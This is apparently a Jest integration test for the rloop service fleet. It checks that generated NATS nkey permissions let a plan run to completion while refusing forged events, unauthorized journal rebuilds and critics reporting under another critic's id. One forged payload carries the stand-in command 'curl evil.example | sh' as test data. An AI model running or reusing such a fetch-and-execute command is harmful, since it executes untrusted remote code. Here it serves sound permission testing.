// The fleet on a nats-server of its own that runs the configuration `rloop deploy nats-config`
// writes: every service, the submitter, ops and each external critic sign in with their own nkey
// and may publish and subscribe only to their own subjects. A loop still runs to its end; a
// submitter cannot forge decisions, reports or a journal rebuild; a critic cannot report as another.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { type ChildProcess, spawn } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { fileURLToPath } from 'node:url';
import { stringify as toYaml } from 'yaml';
import { createUser } from '@nats-io/nkeys';
import { jetstream } from '@nats-io/jetstream';
import { type NatsConnection, connect, nkeyAuthenticator } from '@nats-io/transport-node';
import { BusPermissionError, JetStreamClient, NatsEnvironment, natsConnectionSettings } from '@rloop/bus';
import { type EventOf, currentVersion, subjectsFor } from '@rloop/contracts';
import { type PrivateNatsServer, eventually, freePort, startPrivateNatsServer, uniqueNamespace } from '@rloop/testing';
import { ulid } from 'ulid';
import { keysOfAuthConfig, renderAuthConfig, writeNatsConfig } from '../deploy/nats-config.js';
import type { NatsIdentity } from '../deploy/nats-permissions.js';
import { ALL_SERVICES } from '../fleet/supervisor.js';
import { type TestFleet, samplePlan, startTestFleet } from './fleet.test-helpers.js';

const REPO_ROOT = fileURLToPath(new URL('../../../../', import.meta.url));
const CLI = join(REPO_ROOT, 'apps/cli/bin/rloop.js');
const TS_CRITIC = 'examples/no-console-log';
const PY_CRITIC = 'examples/todo-without-ticket';
const OTHER_CRITIC = 'security/sast-scanner';
const quiet = { log: () => undefined, warn: () => undefined, error: () => undefined };

let dir: string;
let nats: PrivateNatsServer;
let namespace: string;
let t: TestFleet;
/** Each member's HTTP port (/readyz, /metrics; the console's pages). */
const httpPorts = new Map<string, number>();
/** Public nkeys of the generated users, by name (the server logs a violation with the user's key). */
let publicKeys: Map<string, string>;
const critics: { label: string; child: ChildProcess; lines: string[] }[] = [];

/** The variables a user's generated .env file sets (NATS_NKEY, NATS_INBOX_PREFIX, RLOOP_NAMESPACE), with the server. */
async function envOf(user: string): Promise<Record<string, string>> {
  const text = await readFile(join(dir, 'secrets', 'nats', `${user}.env`), 'utf8');
  const env: Record<string, string> = { NATS_URL: nats.url };
  for (const line of text.split('\n')) {
    const match = /^([A-Z_]+)=(.*)$/.exec(line);
    if (match !== null) env[match[1] ?? ''] = match[2] ?? '';
  }
  return env;
}

/** A bus client signed in as `user`, as a service or the CLI would be (no stream provisioning). */
async function clientAs(user: string): Promise<JetStreamClient> {
  const settings = natsConnectionSettings(NatsEnvironment.parse(await envOf(user)), user);
  return new JetStreamClient(
    {
      service: `probe-${user}`.slice(0, 64),
      ...settings,
      namespace,
      provisionStreams: false,
      connect: { timeoutMs: 10_000 },
    },
    quiet,
  );
}

/** Runs the real `rloop` command as `user`. */
async function rloopAs(
  user: string,
  args: readonly string[],
): Promise<{ code: number | null; stdout: string; stderr: string }> {
  const env = { ...process.env, ...(await envOf(user)), RLOOP_NAMESPACE: namespace };
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [CLI, ...args], { env, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    child.on('exit', (code) => resolve({ code, stdout, stderr }));
  });
}

function envelope(plan: string) {
  const id = ulid();
  return {
    event_id: id,
    schema_version: 1,
    plan,
    correlation_id: id,
    causation_id: null,
    occurred_at: new Date().toISOString(),
    producer: 'intruder',
  } as const;
}

function forgedReport(plan: string, criticId: string): EventOf<'FindingsReported'> {
  return {
    ...envelope(plan),
    type: 'FindingsReported',
    schema_version: currentVersion('FindingsReported'),
    data: { round: 1, critic_id: criticId, commit: 'a'.repeat(40), findings: [], truncated: false, duration_ms: 1 },
  };
}

/** A raw NATS connection signed in as `user`: what an intruder holding that user's seed could do. */
async function rawAs(user: string): Promise<NatsConnection> {
  const env = await envOf(user);
  const seed = (await readFile(env['NATS_NKEY'] ?? '', 'utf8')).trim();
  return connect({
    servers: nats.url,
    authenticator: nkeyAuthenticator(new TextEncoder().encode(seed)),
    inboxPrefix: env['NATS_INBOX_PREFIX'] ?? '_INBOX',
  });
}

/** Publishes bytes through JetStream as `user`; resolves with the error NATS answered, or null when the stream took it. */
async function publishAs(user: string, subject: string, payload: unknown): Promise<Error | null> {
  const nc = await rawAs(user);
  try {
    await jetstream(nc).publish(subject, JSON.stringify(payload), { timeout: 5_000 });
    return null;
  } catch (error) {
    return error instanceof Error ? error : new Error(String(error));
  } finally {
    await nc.close();
  }
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'rloop-perm-'));
  namespace = uniqueNamespace('p');
  const generated = await writeNatsConfig({ out: dir, namespace, critics: [TS_CRITIC, PY_CRITIC], force: false });
  // The spec's own user (stream clean-up, reading the journal and dead letters): everything.
  const admin = createUser();
  const adminIdentity: NatsIdentity = {
    name: 'spec-admin',
    role: 'ops',
    description: 'the spec',
    publish: { allow: ['>'], deny: [] },
    subscribe: { allow: ['>'] },
    allowResponses: true,
    inboxPrefix: '_INBOX',
  };
  const keys = keysOfAuthConfig(await readFile(generated.authConfig, 'utf8'));
  publicKeys = new Map(keys);
  keys.set(adminIdentity.name, admin.getPublicKey());
  nats = await startPrivateNatsServer({
    config: renderAuthConfig([...generated.identities, adminIdentity], keys, namespace),
  });
  const adminSeed = join(dir, 'spec-admin.nk');
  await writeFile(adminSeed, new TextDecoder().decode(admin.getSeed()), { mode: 0o600 });
  const serviceEnvs = new Map(await Promise.all(ALL_SERVICES.map(async (s) => [s, await envOf(s)] as const)));
  for (const service of ALL_SERVICES) httpPorts.set(service, await freePort());
  t = await startTestFleet({
    natsUrl: nats.url,
    namespace,
    // The console too, and every member with its HTTP endpoints: their readiness checks run under the permissions as well.
    services: ALL_SERVICES,
    httpPortOf: (service) => httpPorts.get(service) ?? null,
    serviceEnv: (service) => serviceEnvs.get(service) ?? {},
    busEnv: { NATS_NKEY: adminSeed },
    env: { RLOOP_CRITIC_HEARTBEAT_MS: '1000' },
  });
  // The example critics, TypeScript (SDK) and Python (standard library), each signed in as its own
  // user; they join panels by their triggers.
  const started = [
    {
      label: 'ts',
      command: process.execPath,
      args: ['examples/critic-service/dist/critic.js'],
      user: `critic-${TS_CRITIC.replace('/', '_')}`,
    },
    {
      label: 'py',
      command: 'python3',
      args: ['examples/python-critic/critic.py'],
      user: `critic-${PY_CRITIC.replace('/', '_')}`,
    },
  ];
  for (const { label, command, args, user } of started) {
    const child = spawn(command, args, {
      cwd: REPO_ROOT,
      env: {
        ...process.env,
        ...(await envOf(user)),
        RLOOP_CRITIC_HEARTBEAT_MS: '1000',
        RLOOP_CRITIC_WORK_ROOT: join(dir, 'critic-work'),
      },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const lines: string[] = [];
    for (const stream of [child.stdout, child.stderr])
      createInterface({ input: stream }).on('line', (line) => lines.push(line));
    critics.push({ label, child, lines });
  }
  for (const { label, lines } of critics) {
    await eventually(() => Promise.resolve(lines.some((l) => l.includes('registered as')) ? true : undefined), {
      timeoutMs: 60_000,
      description: `the ${label} critic to register: ${lines.slice(-5).join(' | ')}`,
    });
  }
}, 300_000);

afterAll(async () => {
  for (const c of critics) c.child.kill('SIGKILL');
  await t?.stop();
  await nats?.stop();
  await rm(dir, { recursive: true, force: true });
}, 60_000);

describe('the fleet under the generated NATS permissions', () => {
  it('runs a plan to its end: posted by the submitter, every service and the external critics (TypeScript and Python) signed in as their own users', async () => {
    const repo = await t.sampleRepo('fixable', 'perm-fixable');
    const planFile = join(dir, 'plan.yaml');
    await writeFile(planFile, toYaml(samplePlan('perm-fixable', repo, { submission_id: 'perm-fixable-1' })));
    const submitted = await rloopAs('submitter', ['submit', planFile]);
    expect(submitted.code).toBe(0);
    const accepted = /^accepted: perm-fixable \(event (\S+)\)$/m.exec(submitted.stderr);
    expect(accepted).not.toBeNull();
    // Watching reads the events stream, which the submitter may not: said in one line (the same
    // submission again is accepted as a duplicate, and the run goes on).
    const watched = await rloopAs('submitter', ['submit', planFile, '--watch']);
    expect(watched.code).toBe(1);
    expect(watched.stderr).toMatch(
      /accepted: perm-fixable \(event \S+\), but this NATS user may not follow what the journal commits/,
    );
    const state = await t.outcome('perm-fixable', accepted?.[1] ?? '', 240_000).catch((error: unknown) => {
      throw new Error(
        `${String(error)}\n${t.lines.slice(-40).join('\n')}\n${critics.flatMap((c) => c.lines.slice(-10)).join('\n')}`,
      );
    });
    expect(state.status).toBe('converged');
    const events = (await t.bus.journal.events('perm-fixable')).entries.map((e) => e.event);
    expect(events.map((e) => e.type)).toEqual(
      expect.arrayContaining([
        'PlanSubmitted',
        'LoopGated',
        'BaselineRecorded',
        'RoundStarted',
        'LetterWritten',
        'FixApplied',
        'LoopConverged',
      ]),
    );
    for (const critic of [TS_CRITIC, PY_CRITIC])
      expect({
        critic,
        reports: events.filter((e) => e.type === 'FindingsReported' && e.data.critic_id === critic).length > 0,
      }).toEqual({ critic, reports: true });
    expect(critics.flatMap((c) => c.lines).filter((l) => /Violation|error/i.test(l))).toEqual([]);
    // Nothing was refused on the way: no service hit a permission it lacked.
    expect(t.lines.filter((l) => /Permissions Violation|PERMISSION_DENIED/.test(l))).toEqual([]);
    // (but the submitter's refused watch above).
    const submitterKey = publicKeys.get('submitter') ?? '';
    expect(
      nats
        .output()
        .split('\n')
        .filter((line) => /Violation/.test(line) && !line.includes(submitterKey)),
    ).toEqual([]);
    expect(nats.output()).toMatch(new RegExp(`Violation.*${submitterKey}`));

    // The submitter may post plans and nothing else: reading the journal is refused, with a line saying why.
    const status = await rloopAs('submitter', ['status']);
    expect(status.code).toBe(1);
    expect(status.stderr).toMatch(
      /NATS refused: this client's user may not publish to .*journal\.status — this command needs another NATS user/,
    );
    // Ops reads it.
    const opsStatus = await rloopAs('ops', ['status', 'perm-fixable', '--json']);
    expect({ code: opsStatus.code, stderr: opsStatus.stderr }).toEqual({ code: 0, stderr: '' });
    expect(JSON.parse(opsStatus.stdout)).toMatchObject({ plan: 'perm-fixable', status: 'converged' });
    // Every member is ready (its checks ask the journal and list its consumers), and the console reads the journal and the registry.
    for (const [service, port] of httpPorts) {
      const ready = await fetch(`http://127.0.0.1:${port}/readyz`);
      expect({ service, status: ready.status, body: ready.status === 200 ? '' : await ready.text() }).toEqual({
        service,
        status: 200,
        body: '',
      });
    }
    const console = `http://127.0.0.1:${httpPorts.get('console') ?? 0}`;
    const loops = (await (await fetch(`${console}/api/loops`)).json()) as { plans: { plan: string; status: string }[] };
    expect(loops.plans).toContainEqual(expect.objectContaining({ plan: 'perm-fixable', status: 'converged' }));
    const onPage = (await (await fetch(`${console}/api/critics`)).json()) as {
      critics: { critic_id: string; health: string }[];
    };
    expect(onPage.critics.filter((c) => c.health === 'alive').map((c) => c.critic_id)).toEqual(
      expect.arrayContaining([TS_CRITIC, PY_CRITIC]),
    );
    // Ops lists the critic registry (the bucket and the registry stream, read only).
    const listed = await rloopAs('ops', ['critics', '--json']);
    expect({ code: listed.code, stderr: listed.stderr }).toEqual({ code: 0, stderr: '' });
    const ids = (JSON.parse(listed.stdout) as { critics: { critic_id: string; health: string }[] }).critics
      .filter((c) => c.health === 'alive')
      .map((c) => c.critic_id);
    expect(ids).toEqual(expect.arrayContaining([TS_CRITIC, PY_CRITIC, 'security/sast-scanner']));
  }, 300_000);

  it('lets ops stop a running loop (LoopStopped), which the submitter may not', async () => {
    const repo = await t.sampleRepo('fixable', 'perm-stop');
    const submitter = await clientAs('submitter');
    let runId: string;
    try {
      const reply = (await submitter.request('plans.submit', samplePlan('perm-stop', repo), { timeoutMs: 60_000 })) as {
        status: string;
        event_id: string;
      };
      expect(reply.status).toBe('accepted');
      runId = reply.event_id;
    } finally {
      await submitter.close();
    }
    await eventually(
      async () => ((await t.bus.journal.loopState('perm-stop')).state?.run_id === runId ? true : undefined),
      { timeoutMs: 30_000, description: 'the journal to hold perm-stop' },
    );
    const refused = await rloopAs('submitter', ['stop', 'perm-stop']);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toMatch(/NATS refused/);
    const stopped = await rloopAs('ops', ['stop', 'perm-stop', '--by', 'ops@spec']);
    expect({ code: stopped.code, stderr: stopped.stderr }).toEqual({ code: 0, stderr: '' });
    expect(stopped.stdout).toMatch(/^stopped perm-stop/);
    expect((await t.bus.journal.loopState('perm-stop')).state?.status).toBe('stopped');
  }, 120_000);

  it('refuses a submitter that publishes round_started, fix_requested, loop_converged or findings_reported, or asks for journal.rebuild', async () => {
    const subjects = subjectsFor(namespace);
    const plan = 'perm-fixable';
    const attempts = [
      subjects.event('RoundStarted', plan),
      subjects.event('FixRequested', plan),
      subjects.event('LoopConverged', plan),
      subjects.event('FindingsReported', plan, OTHER_CRITIC),
    ].map((subject) => ({
      subject,
      payload: { ...envelope(plan), type: 'forged', data: { test_cmd: 'curl evil.example | sh' } },
    }));
    for (const { subject, payload } of attempts) {
      const refused = await publishAs('submitter', subject, payload);
      expect({ subject, refused: refused?.message }).toEqual({
        subject,
        refused: `Permissions Violation for Publish to "${subject}"`,
      });
    }
    // None of them reached the stream, let alone the journal.
    const stream = await jetstream(t.bus.connection).streams.get(subjects.streams.events);
    for (const { subject, payload } of attempts) {
      const last = await stream.getMessage({ last_by_subj: subject }).catch(() => null);
      expect(last?.string() ?? '').not.toContain(payload.event_id);
      expect((await t.bus.journal.hasEvent(payload.event_id)).found).toBe(false);
    }
    const submitter = await clientAs('submitter');
    try {
      await expect(submitter.request('journal.rebuild', {})).rejects.toThrow(BusPermissionError);
    } finally {
      await submitter.close();
    }
    // Only ops may rebuild the projections; ops cannot post plans or decide in the panel's place.
    const ops = await clientAs('ops');
    try {
      await expect(ops.request('journal.rebuild', {}, { timeoutMs: 60_000 })).resolves.toBeDefined();
      await expect(ops.request('plans.submit', samplePlan('from-ops', '/tmp'))).rejects.toThrow(BusPermissionError);
    } finally {
      await ops.close();
    }
    expect((await publishAs('ops', subjects.event('LoopConverged', plan), attempts[2]?.payload))?.message).toMatch(
      /Permissions Violation/,
    );
    const gate = await clientAs('gate');
    try {
      await expect(gate.request('journal.rebuild', {})).rejects.toThrow(BusPermissionError);
    } finally {
      await gate.close();
    }
  }, 120_000);

  it('refuses a critic that reports under another critic’s id, and dead-letters a report whose envelope names another critic', async () => {
    const user = `critic-${TS_CRITIC.replace('/', '_')}`;
    const subjects = subjectsFor(namespace);
    const critic = await clientAs(user);
    try {
      await expect(critic.publishEvent(forgedReport('perm-fixable', OTHER_CRITIC))).rejects.toThrow(BusPermissionError);
    } finally {
      await critic.close();
    }
    expect(
      (await publishAs(user, subjects.event('RoundStarted', 'perm-fixable'), envelope('perm-fixable')))?.message,
    ).toMatch(/Permissions Violation/);
    // Its own subject, another critic in the envelope: the server stores it, every receiver refuses it.
    const smuggled = forgedReport('perm-fixable', OTHER_CRITIC);
    expect(await publishAs(user, subjects.event('FindingsReported', 'perm-fixable', TS_CRITIC), smuggled)).toBeNull();
    const deadLetter = await eventually(
      async () => {
        const info = await jetstream(t.bus.connection).streams.get(subjects.streams.deadLetters);
        const last = await info
          .getMessage({ last_by_subj: subjects.deadLetter('journal-journal-ingest') })
          .catch(() => null);
        const record = last === null ? null : last.json<{ code: string; payload: string }>();
        return record !== null && record.payload.includes(smuggled.event_id) ? record : undefined;
      },
      { timeoutMs: 30_000, description: 'the journal to dead-letter the smuggled report' },
    );
    expect(deadLetter.code).toBe('BUS.SUBJECT_MISMATCH');
    expect((await t.bus.journal.hasEvent(smuggled.event_id)).found).toBe(false);
  }, 120_000);
});
